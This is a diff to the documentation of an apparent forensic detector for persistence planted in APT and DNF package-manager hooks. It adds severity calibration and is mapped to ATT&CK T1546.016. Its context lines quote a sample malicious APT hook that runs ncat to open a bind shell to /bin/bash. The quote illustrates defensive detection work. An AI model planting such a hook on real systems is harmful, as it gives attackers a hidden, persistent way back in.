@@ -16,6 +16,10 @@
 //! **Example:** `/etc/apt/apt.conf.d/99update` line 1: `APT::Update::Pre-Invoke
 //! {"nohup ncat -lvp 1234 -e /bin/bash &"};` (critical).
 //!
+//! **Calibration:** role `foothold` (a way back in: listed among the entries still open when
+//! high); critical or high only for evidence that an attacker acted, medium for what needs a
+//! look, low and info for context (docs/PRECISION.md).
+//!
 //! **ATT&CK:** T1546.016 (Event Triggered Execution: Installer Packages).
 
 use huoyan_artifacts::persistence::config::{parse_apt_hooks, parse_dnf_actions, NamedCommand};
